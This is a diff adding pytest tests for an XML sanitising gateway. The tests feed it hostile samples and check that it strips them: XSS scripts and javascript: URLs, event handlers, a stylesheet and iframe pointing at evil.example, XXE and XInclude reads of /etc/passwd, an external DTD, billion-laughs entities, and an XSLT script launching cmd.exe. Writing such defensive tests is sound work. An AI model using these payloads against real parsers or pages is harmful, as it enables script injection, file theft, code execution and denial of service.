@@ -1,0 +1,176 @@
+"""Generic XML documents (text.xml): what a browser or an XML parser would run goes,
+the rest of the document stays as written.
+
+Outputs are read back with lxml (tests/helpers/markupcheck.py: no entity resolution,
+no network): they must be well-formed, hold no DTD entity, no xml-stylesheet
+instruction, and no script, frame, handler or script URL in XHTML or SVG elements.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import lxml.etree
+import pytest
+
+from gateway.models import Verdict
+from gateway.pipeline.sniff import sniff_bytes
+from tests.helpers.markupcheck import XHTML, xml_problems
+from tests.helpers.pipeline import keys, run
+
+# PayloadsAllTheThings' xss.xml: the root is no HTML, the script element is (by namespace)
+XSS = b"""<html>
+\t<head></head>
+\t<body>
+\t\t<something:script xmlns:something="http://www.w3.org/1999/xhtml">alert(1)</something:script>
+\t\t<info>
+\t\t  <name><value><![CDATA[<script>confirm(document.domain)</script>]]></value></name>
+\t\t  <url><value>http://google.com</value></url>
+\t\t</info>
+\t</body>
+</html>
+"""
+
+
+def test_xhtml_script_in_xml_is_removed_the_rest_kept(tmp_path: Path) -> None:
+    report, out = run(tmp_path, XSS, "xss.xml")
+    assert report.input.type == "text.xml" and report.output is not None
+    assert report.output.name == "out-xss.xml" or report.output.name.endswith(".xml")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.script", "script[0]")}
+    assert xml_problems(out) == []
+    data = out.read_bytes()
+    assert b"alert(1)" not in data
+    assert b"<![CDATA[<script>confirm(document.domain)</script>]]>" in data  # text, kept
+    assert b"<value>http://google.com</value>" in data
+
+
+# a data file with everything a browser or parser acts on, among data that looks alike
+HOSTILE = """<?xml version="1.0" encoding="Shift_JIS"?>
+<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>
+<?mso-infopath-ignore keep me?>
+<!-- 市役所の台帳 -->
+<ledger xmlns:h="http://www.w3.org/1999/xhtml" xmlns:s="http://www.w3.org/2000/svg"
+        xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xlink="http://www.w3.org/1999/xlink">
+  <entry online="yes" onset="1999"><script>脚本の題名</script>関所</entry>
+  <h:p onclick="steal()">詳細は<h:a href="https://www.city.example.lg.jp/">こちら</h:a>
+    <h:a href="javascript:alert(1)">ここ</h:a><h:img src="http://tracker.example/p.gif"/></h:p>
+  <h:iframe src="http://evil.example/"/>
+  <s:svg><s:script>alert(2)</s:script><s:a xlink:href="javascript:alert(3)">x</s:a></s:svg>
+  <xi:include href="file:///etc/passwd" parse="text"/>
+</ledger>
+""".encode("cp932")
+
+
+def test_hostile_data_file(tmp_path: Path) -> None:
+    report, out = run(tmp_path, HOSTILE, "ledger.xml")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {
+        ("xml.stylesheet", "?xml-stylesheet[0]"),
+        ("xml.event_handler", "p[0]@onclick"),
+        ("xml.hyperlink", "a[0]@href"),
+        ("xml.javascript_url", "a[1]@href"),
+        ("xml.remote_resource", "img[0]@src"),
+        ("xml.frame", "iframe[0]"),
+        ("xml.script", "script[1]"),          # script[0] is the data element without namespace
+        ("xml.javascript_url", "a[2]@href"),
+        ("xml.remote_resource", "include[0]"),
+    }
+    kept = next(f for f in report.items[0].findings if f.kind == "xml.hyperlink")
+    assert kept.action == "kept"
+    assert xml_problems(out) == []
+    data = out.read_bytes()
+    assert data.startswith(b"<?xml version='1.0' encoding='Shift_JIS'?>")
+    text = data.decode("cp932")
+    for kept_text in ("<?mso-infopath-ignore keep me?>", "<!-- 市役所の台帳 -->",
+                      '<entry online="yes" onset="1999"><script>脚本の題名</script>関所</entry>',
+                      'href="https://www.city.example.lg.jp/"', "詳細は", "ここ"):
+        assert kept_text in text
+    for gone in ("evil.example", "tracker.example", "alert(", "steal()", "passwd"):
+        assert gone not in text
+
+
+def test_xslt_scripts_and_literal_html_scripts(tmp_path: Path) -> None:
+    """rce-dotnet.xsl: msxsl:script runs C# in .NET transformations; an XSLT stylesheet's
+    literal result elements without a namespace become HTML."""
+    xsl = b"""<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
+ xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:App="http://www.tempuri.org/App">
+  <msxsl:script implements-prefix="App" language="C#"><![CDATA[
+    public string F(string d) { System.Diagnostics.Process.Start("cmd.exe"); return d; }
+  ]]></msxsl:script>
+  <xsl:template match="/"><html><body onload="x()"><script>alert(1)</script>
+    <p><xsl:value-of select="App:F(Test)"/></p></body></html></xsl:template>
+</xsl:stylesheet>"""
+    report, out = run(tmp_path, xsl, "report.xsl")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.script", "script[0]"), ("xml.event_handler", "body[0]@onload"),
+                            ("xml.script", "script[1]")}
+    assert xml_problems(out) == []
+    data = out.read_bytes()
+    assert b"Process.Start" not in data and b"alert(1)" not in data and b"onload" not in data
+    assert b'<xsl:value-of select="App:F(Test)"/>' in data
+
+
+@pytest.mark.parametrize(("payload", "detail", "text"), [
+    # PayloadsAllTheThings' "Classic XXE.xml": a DTD expat cannot read ((#ANY))
+    (b'<?xml version="1.0"?>\n<!DOCTYPE data [\n<!ELEMENT data (#ANY)>\n'
+     b'<!ENTITY file SYSTEM "file:///etc/passwd">\n]>\n<data>a&file;b</data>',
+     "declares XML entities in a DTD that does not parse (XXE); "
+     "1 entity reference(s) removed", "ab"),
+    # billion laughs without an XML declaration and without a file name extension
+    (b'<!DOCTYPE data [\n<!ENTITY a0 "dos" >\n<!ENTITY a1 "&a0;&a0;&a0;&a0;">\n]>\n'
+     b"<data>&a1;</data>",
+     "declares nested XML entities (entity expansion, 'billion laughs'); "
+     "1 entity reference(s) removed", ""),
+    # an external DTD (out-of-band XXE); the XHTML entities it would define stay as text
+    (b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://evil.example/oob.dtd">\n'
+     b"<r>a&nbsp;b &copy; &send;</r>",
+     "names an external DTD (a validating parser fetches it); "
+     "2 entity reference(s) replaced by their text; 1 entity reference(s) removed",
+     "a\xa0b \xa9 "),
+])
+def test_dtd_attacks_are_cut_out(tmp_path: Path, payload: bytes, detail: str,
+                                 text: str) -> None:
+    report, out = run(tmp_path, payload, "data")
+    assert report.input.type == "text.xml"
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.dtd", "!DOCTYPE")}
+    assert report.items[0].findings[0].detail == detail
+    assert xml_problems(out) == []
+    assert b"<!DOCTYPE" not in out.read_bytes()
+    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == text
+
+
+def test_plain_data_file_is_delivered_byte_for_byte(tmp_path: Path) -> None:
+    data = ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- 予算 -->\n<budget year="2026">'
+            '<item online="no"><name>道路</name><yen>1200</yen></item>'
+            '<link>https://www.city.example.lg.jp/</link></budget>\n').encode()
+    report, out = run(tmp_path, data, "budget.xml")
+    assert report.verdict is Verdict.CLEAN and keys(report) == set()
+    assert out.read_bytes() == data
+
+
+def test_not_well_formed_is_recovered_or_blocked(tmp_path: Path) -> None:
+    report, out = run(tmp_path, b'<?xml version="1.0"?>\n<a><h:script xmlns:h="'
+                      + XHTML.encode() + b'">x()</h:script><b>text</a>', "broken.xml")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.repaired", ""), ("xml.script", "script[0]")}
+    assert xml_problems(out) == []
+    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == "text"
+    report, out = run(tmp_path, b'<?xml version="1.0"?>\n\x01\x02 no element', "junk.xml")
+    assert report.verdict is Verdict.BLOCKED
+    assert (report.reason or "").startswith("XML is not well-formed and cannot be recovered")
+    assert not out.exists()
+
+
+@pytest.mark.parametrize(("name", "data", "expected"), [
+    (None, b'<?xml version="1.0"?>\n<budget/>', "text.xml"),
+    (None, b'<?xml version="1.0"?>\n<!DOCTYPE html>\n<html><body>x</body></html>', "html"),
+    (None, b'<?xml version="1.0"?>\n<!-- c -->\n<html xmlns="http://www.w3.org/1999/xhtml">'
+           b"<body>x</body></html>", "html"),
+    ("xss.xml", b"<html><body><p>x</p></body></html>", "text.xml"),
+    ("page.html", b"<html><body><p>x</p></body></html>", "html"),
+    ("notes.xml", b"no markup at all\n", "text.plain"),
+])
+def test_sniffing(name: str | None, data: bytes, expected: str) -> None:
+    assert sniff_bytes(data, name).type_id == expected
